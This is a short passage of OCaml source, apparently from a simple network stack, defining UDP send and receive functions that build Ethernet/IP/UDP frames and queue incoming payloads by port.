  if not (Hashtbl.mem t.udp_ports port) then
    Hashtbl.replace t.udp_ports port (Queue.create ())

let udp_send t ~dst payload =
  match t.resolve dst.Addr.ip with
  | None -> ()
  | Some dst_mac ->
      let usrc = fresh_port t in
      t.send_frame
        (frame_to_bytes
           {
             src_mac = t.smac;
             dst_mac;
             ip =
               {
                 src_ip = t.sip;
                 dst_ip = dst.Addr.ip;
                 proto = Udp { usrc_port = usrc; udst_port = dst.Addr.port; upayload = payload };
               };
           })

let udp_recv t ~port =
  match Hashtbl.find_opt t.udp_ports port with
  | None -> None
  | Some q -> Queue.take_opt q
